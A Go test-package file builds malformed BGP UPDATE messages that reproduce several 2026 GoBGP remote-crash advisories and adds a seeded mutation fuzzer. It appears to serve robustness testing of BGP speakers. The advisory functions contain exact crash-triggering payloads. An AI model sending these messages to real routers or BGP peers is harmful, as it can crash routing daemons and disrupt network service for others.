package bgptest

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
)

// Path attribute flags (RFC 4271 section 4.3).
const (
	FlagOptional   = 0x80
	FlagTransitive = 0x40
	FlagPartial    = 0x20
	FlagExtLen     = 0x10
)

// Path attribute type codes used by the attacks.
const (
	AttrOrigin           = 1
	AttrASPath           = 2
	AttrNextHop          = 3
	AttrMED              = 4
	AttrCommunities      = 8
	AttrMPReach          = 14
	AttrAS4Path          = 17
	AttrIPv6ExtCommunity = 25
	AttrAIGP             = 26
	AttrLargeCommunity   = 32
	AttrPrefixSID        = 40
)

// low8 is the low octet of n: a one-octet wire field, which an attack may
// make wrap on purpose.
func low8(n int) byte { return byte(n & 0xff) } //nolint:gosec // the wrap is the point

// randByte returns a random octet.
func randByte(r *rand.Rand) byte { return low8(r.IntN(256)) }

// Attr encodes one path attribute: flags, type, length (two octets when
// flags has FlagExtLen) and value.
func Attr(flags, typ byte, value []byte) []byte {
	if flags&FlagExtLen != 0 {
		b := []byte{flags, typ, 0, 0}
		binary.BigEndian.PutUint16(b[2:], uint16(len(value))) //nolint:gosec // attack values stay small
		return append(b, value...)
	}
	return append([]byte{flags, typ, low8(len(value))}, value...)
}

// Origin is a well-formed ORIGIN attribute (0 IGP, 1 EGP, 2 INCOMPLETE).
func Origin(v byte) []byte { return Attr(FlagTransitive, AttrOrigin, []byte{v}) }

// asSequence encodes one AS_SEQUENCE segment of 4-octet AS numbers.
func asSequence(asns []uint32) []byte {
	b := []byte{2, low8(len(asns))}
	for _, a := range asns {
		b = binary.BigEndian.AppendUint32(b, a)
	}
	return b
}

// ASPath is a well-formed AS_PATH of one AS_SEQUENCE of 4-octet AS
// numbers, as sent on a session that negotiated them.
func ASPath(asns ...uint32) []byte { return Attr(FlagTransitive, AttrASPath, asSequence(asns)) }

// AS4Path is a well-formed AS4_PATH (optional transitive) of one
// AS_SEQUENCE.
func AS4Path(asns ...uint32) []byte {
	return Attr(FlagOptional|FlagTransitive, AttrAS4Path, asSequence(asns))
}

// NextHop is a well-formed NEXT_HOP attribute.
func NextHop(a netip.Addr) []byte {
	b := a.As4()
	return Attr(FlagTransitive, AttrNextHop, b[:])
}

// Communities is a well-formed COMMUNITIES attribute.
func Communities(cs ...uint32) []byte {
	var v []byte
	for _, c := range cs {
		v = binary.BigEndian.AppendUint32(v, c)
	}
	return Attr(FlagOptional|FlagTransitive, AttrCommunities, v)
}

// NLRI encodes prefixes as (length, significant octets) pairs.
func NLRI(prefixes ...netip.Prefix) []byte {
	var b []byte
	for _, p := range prefixes {
		a := p.Masked().Addr().AsSlice()
		b = append(b, low8(p.Bits()))
		b = append(b, a[:(p.Bits()+7)/8]...)
	}
	return b
}

// concat joins encoded attributes.
func concat(attrs ...[]byte) []byte {
	var b []byte
	for _, a := range attrs {
		b = append(b, a...)
	}
	return b
}

// Update builds an UPDATE message: withdrawn routes, path attributes (one
// encoded attribute each, in order) and NLRI, with the lengths they have.
func Update(withdrawn []byte, attrs [][]byte, nlri []byte) []byte {
	pa := concat(attrs...)
	return Message(MsgUpdate, updateBody(withdrawn, uint16(len(pa)), pa, nlri)) //nolint:gosec // attack messages stay below 64 KiB
}

// updateBody lays out an UPDATE's body with the path attribute length
// given, which need not be that of pa.
func updateBody(withdrawn []byte, paLen uint16, pa, nlri []byte) []byte {
	b := binary.BigEndian.AppendUint16(nil, uint16(len(withdrawn))) //nolint:gosec // attack messages stay below 64 KiB
	b = append(b, withdrawn...)
	b = binary.BigEndian.AppendUint16(b, paLen)
	b = append(b, pa...)
	return append(b, nlri...)
}

// Attack is one message sent at the speaker.
type Attack struct {
	// Name says what the message is; Advisory names the advisory or issue
	// it reproduces, if any.
	Name, Advisory string
	// Msg is the whole message, header included.
	Msg []byte
}

// Target is what the attacks announce: the attacker's AS (first in
// AS_PATH), a next hop and a prefix.
type Target struct {
	ASN     uint32
	NextHop netip.Addr
	Prefix  netip.Prefix
}

// WellFormed returns a well-formed UPDATE announcing t.Prefix.
func (t Target) WellFormed() []byte {
	return Update(nil, [][]byte{Origin(0), ASPath(t.ASN), NextHop(t.NextHop)}, NLRI(t.Prefix))
}

// Withdraw returns an UPDATE withdrawing t.Prefix.
func (t Target) Withdraw() []byte { return Update(NLRI(t.Prefix), nil, nil) }

// Advisories returns the UPDATEs of GoBGP's 2026 remote-crash advisories
// and reports, built for t. Each one crashed some GoBGP release; which
// ones a given release survives depends on its fixes and on the session's
// configuration (treat-as-withdraw, confederation).
func (t Target) Advisories() []Attack {
	nlri := NLRI(t.Prefix)
	mp4mc := []byte{0, 1, 2, 4} // AFI 1, SAFI 2 (IPv4 multicast), next hop length 4
	nh := t.NextHop.As4()
	mp4mc = append(mp4mc, nh[:]...)
	mp4mc = append(mp4mc, 0) // no SNPA
	mp4mc = append(mp4mc, nlri...)
	return append(t.pathAdvisories(nlri, mp4mc), t.decoderAdvisories(nlri)...)
}

// pathAdvisories are the advisories about AS_PATH, AS4_PATH, NEXT_HOP,
// ORIGIN, unknown attributes and the UPDATE's lengths.
func (t Target) pathAdvisories(nlri, mp4mc []byte) []Attack {
	return []Attack{
		{
			Name:     "AS4_PATH before AS_PATH, AS_PATH last (ORIGIN, AS4_PATH, NEXT_HOP, AS_PATH)",
			Advisory: "GHSA-8rxh-r2p6-7f2q / CVE-2026-41643",
			Msg:      Update(nil, [][]byte{Origin(0), AS4Path(t.ASN), NextHop(t.NextHop), ASPath(t.ASN)}, nlri),
		},
		{
			Name:     "AS4_PATH with a bad flag and a 1-octet value before AS_PATH, no NLRI (the report's payload)",
			Advisory: "GHSA-8rxh-r2p6-7f2q (osrg/gobgp#3308)",
			Msg:      Update(nil, [][]byte{Attr(FlagTransitive, AttrAS4Path, []byte{2}), Attr(FlagTransitive, AttrASPath, []byte{0xff, 0xff, 0xde, 0xad})}, nil),
		},
		{
			Name:     "zero-length AS_PATH",
			Advisory: "GHSA-frrj-87jh-2772",
			Msg:      Update(nil, [][]byte{Origin(0), Attr(FlagTransitive, AttrASPath, nil), NextHop(t.NextHop)}, nlri),
		},
		{
			// The report's bytes: the path attribute length, 13, takes
			// one octet more than the attributes, and the NLRI is cut.
			Name:     "NEXT_HOP of length 2, empty AS_PATH, attribute length one past the attributes",
			Advisory: "GHSA-4p9m-8gc4-rw2h / CVE-2026-30405 (osrg/gobgp#3305)",
			Msg: Message(MsgUpdate, updateBody(nil, 13, concat(Origin(2), Attr(FlagTransitive, AttrASPath, nil),
				Attr(FlagTransitive, AttrNextHop, []byte{1, 2})), []byte{0x01, 0x18, 0xc0, 0xa8, 0x01})),
		},
		{
			Name:     "NEXT_HOP of length 0 without the transitive flag",
			Advisory: "GHSA-4p9m-8gc4-rw2h / CVE-2026-30405",
			Msg:      Update(nil, [][]byte{Origin(0), ASPath(t.ASN), Attr(0, AttrNextHop, nil)}, nlri),
		},
		{
			Name:     "unrecognized well-known attribute (type 0xf0, optional bit clear)",
			Advisory: "GHSA-7235-89m6-f4px / CVE-2026-41642",
			Msg:      Update(nil, [][]byte{Origin(0), ASPath(t.ASN), NextHop(t.NextHop), Attr(FlagTransitive, 0xf0, []byte{1})}, nlri),
		},
		{
			Name:     "ORIGIN without the transitive flag, MP_REACH_NLRI of a family not negotiated (IPv4 multicast)",
			Advisory: "GHSA-p3w2-64xm-833j / CVE-2026-42285 (osrg/gobgp#3392)",
			Msg:      Update(nil, [][]byte{Attr(0, AttrOrigin, []byte{0}), ASPath(t.ASN), Attr(FlagOptional, AttrMPReach, mp4mc)}, nil),
		},
		{
			Name:     "withdrawn routes length 2 holding a /32 (length underflow)",
			Advisory: "GHSA-pw7p-7fqv-hpj8 / CVE-2026-37462",
			Msg:      Message(MsgUpdate, append([]byte{0, 2, 32, 10, 0, 0, 1}, make([]byte, 64)...)),
		},
		{
			Name:     "path attribute length 3 holding a 4-octet ORIGIN (length underflow)",
			Advisory: "GHSA-pw7p-7fqv-hpj8 / CVE-2026-37462",
			Msg:      Message(MsgUpdate, append(updateBody(nil, 3, Origin(0), nil), 0xc0, 0xff, 0, 0xc0, 0xff, 0)),
		},
	}
}

// decoderAdvisories are the advisories about the decoders of optional
// attributes: IPv6 extended communities, AIGP, Prefix-SID.
func (t Target) decoderAdvisories(nlri []byte) []Attack {
	return []Attack{
		{
			Name:     "IPv6 address-specific extended community of 6 octets",
			Advisory: "GHSA-wmvj-f67g-qg4g / CVE-2026-37461",
			Msg:      Update(nil, [][]byte{Origin(0), ASPath(t.ASN), NextHop(t.NextHop), Attr(FlagOptional|FlagTransitive, AttrIPv6ExtCommunity, []byte{0, 2, 0x20, 1, 0x0d, 0xb8})}, nlri),
		},
		{
			Name:     "AIGP TLV claiming 11 octets with 2 present",
			Advisory: "CVE-2026-7735",
			Msg:      Update(nil, [][]byte{Origin(0), ASPath(t.ASN), NextHop(t.NextHop), Attr(FlagOptional, AttrAIGP, []byte{1, 0, 11, 0, 0})}, nlri),
		},
		{
			Name:     "AIGP TLV of length 0",
			Advisory: "CVE-2026-7735",
			Msg:      Update(nil, [][]byte{Origin(0), ASPath(t.ASN), NextHop(t.NextHop), Attr(FlagOptional, AttrAIGP, []byte{1, 0, 0})}, nlri),
		},
		{
			Name:     "Prefix-SID SRv6 L3 Service TLV with an unknown sub-TLV (decoder looped)",
			Advisory: "CVE-2026-7734",
			Msg:      Update(nil, [][]byte{Origin(0), ASPath(t.ASN), NextHop(t.NextHop), Attr(FlagOptional|FlagTransitive, AttrPrefixSID, []byte{5, 0, 7, 0, 0xff, 0, 3, 1, 2, 3})}, nlri),
		},
		{
			Name:     "Prefix-SID SRv6 SID Structure Sub-Sub-TLV of length 5",
			Advisory: "osrg/gobgp prefix_sid: malformed length re-serialized on receive",
			Msg: Update(nil, [][]byte{Origin(0), ASPath(t.ASN), NextHop(t.NextHop), Attr(FlagOptional|FlagTransitive, AttrPrefixSID, []byte{
				0x05, 0x00, 0x22, 0x00, 0x01, 0x00, 0x1e, 0x00, 0x20, 0x01, 0x00, 0x00, 0x00, 0x05, 0x00, 0x03, 0x00, 0x00,
				0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x13, 0x00, 0x01, 0x00, 0x05, 0x28, 0x18, 0x10, 0x00, 0x10, 0x40})}, nlri),
		},
	}
}

// Fuzzed returns n UPDATEs derived from a well-formed one for t by
// deterministic mutations seeded with seed: attribute lengths, flags,
// types and values changed, attributes reordered, duplicated, dropped or
// added, the attribute block truncated, the path attribute length
// changed. The same seed gives the same messages.
func (t Target) Fuzzed(seed uint64, n int) []Attack {
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)) //nolint:gosec // a reproducible corpus, not secrets
	base := func() [][]byte {
		return [][]byte{
			Origin(0), ASPath(t.ASN), NextHop(t.NextHop),
			Attr(FlagOptional, AttrMED, []byte{0, 0, 0, 10}),
			Communities((t.ASN&0xffff)<<16 | 100),
			AS4Path(t.ASN),
			Attr(FlagOptional|FlagTransitive, AttrLargeCommunity, binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, t.ASN), 1), 2)),
		}
	}
	out := make([]Attack, 0, n)
	for i := range n {
		attrs := base()
		var what []string
		for range 1 + r.IntN(3) {
			var w string
			attrs, w = mutate(r, attrs)
			what = append(what, w)
		}
		pa := concat(attrs...)
		paLen := uint16(len(pa)) //nolint:gosec // small
		if r.IntN(8) == 0 {
			paLen = uint16(r.IntN(len(pa) + 8)) //nolint:gosec // small
			what = append(what, fmt.Sprintf("path attribute length %d of %d", paLen, len(pa)))
		}
		var withdrawn []byte
		if r.IntN(10) == 0 {
			withdrawn = NLRI(t.Prefix)
		}
		out = append(out, Attack{
			Name: fmt.Sprintf("fuzz %d: %v", i, what),
			Msg:  Message(MsgUpdate, updateBody(withdrawn, paLen, pa, NLRI(t.Prefix))),
		})
	}
	return out
}

// mutate applies one random mutation to attrs and says which.
func mutate(r *rand.Rand, attrs [][]byte) ([][]byte, string) {
	if len(attrs) == 0 {
		return [][]byte{Attr(randByte(r), randByte(r), randBytes(r, r.IntN(8)))}, "added a random attribute to none"
	}
	i := r.IntN(len(attrs))
	a := append([]byte(nil), attrs[i]...)
	if len(a) < 4 {
		// Cut by an earlier mutation: no header left to change.
		attrs[i] = Attr(randByte(r)&^FlagExtLen, randByte(r), randBytes(r, r.IntN(8)))
		return attrs, fmt.Sprintf("attribute %d of %d octets replaced by a random one", i, len(a))
	}
	ext := a[0]&FlagExtLen != 0
	switch r.IntN(10) {
	case 0: // the length field
		if ext {
			binary.BigEndian.PutUint16(a[2:], uint16(r.IntN(300))) //nolint:gosec // small
		} else {
			a[2] = lengthNear(r, int(a[2]))
		}
		attrs[i] = a
		return attrs, fmt.Sprintf("attribute %d (type %d) length %x", i, a[1], a[2:3])
	case 1: // the flags
		a[0] ^= []byte{FlagOptional, FlagTransitive, FlagPartial, FlagExtLen, randByte(r)}[r.IntN(5)]
		attrs[i] = a
		return attrs, fmt.Sprintf("attribute %d (type %d) flags %#x", i, a[1], a[0])
	case 2: // the order
		r.Shuffle(len(attrs), func(x, y int) { attrs[x], attrs[y] = attrs[y], attrs[x] })
		return attrs, "attributes shuffled"
	case 3: // a duplicate
		j := r.IntN(len(attrs) + 1)
		attrs = append(attrs[:j], append([][]byte{a}, attrs[j:]...)...)
		return attrs, fmt.Sprintf("attribute type %d duplicated at %d", a[1], j)
	case 4: // dropped
		return append(attrs[:i], attrs[i+1:]...), fmt.Sprintf("attribute type %d dropped", a[1])
	case 5: // the type
		a[1] = randByte(r)
		attrs[i] = a
		return attrs, fmt.Sprintf("attribute %d type changed to %d", i, a[1])
	case 6: // value bytes
		if len(a) > 3 {
			a[3+r.IntN(len(a)-3)] = randByte(r)
		}
		attrs[i] = a
		return attrs, fmt.Sprintf("attribute %d (type %d) value byte changed", i, a[1])
	case 7: // truncated
		attrs[i] = a[:r.IntN(len(a))]
		return attrs, fmt.Sprintf("attribute %d (type %d) truncated to %d octets", i, a[1], len(attrs[i]))
	case 8: // a random attribute
		flags := randByte(r) &^ FlagExtLen
		na := Attr(flags, randByte(r), randBytes(r, r.IntN(24)))
		return append(attrs, na), fmt.Sprintf("added attribute type %d flags %#x", na[1], na[0])
	default: // value grown or shrunk, length kept consistent
		v := a[3:]
		if ext {
			v = a[4:]
		}
		if r.IntN(2) == 0 && len(v) > 0 {
			v = v[:r.IntN(len(v))]
		} else {
			v = append(append([]byte(nil), v...), randBytes(r, 1+r.IntN(8))...)
		}
		attrs[i] = Attr(a[0], a[1], v)
		return attrs, fmt.Sprintf("attribute %d (type %d) value resized to %d", i, a[1], len(v))
	}
}

// lengthNear returns a length close to n, or a boundary value.
func lengthNear(r *rand.Rand, n int) byte {
	switch r.IntN(4) {
	case 0:
		return 0
	case 1:
		return 0xff
	default:
		return low8(n + r.IntN(5) - 2)
	}
}

func randBytes(r *rand.Rand, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = randByte(r)
	}
	return b
}
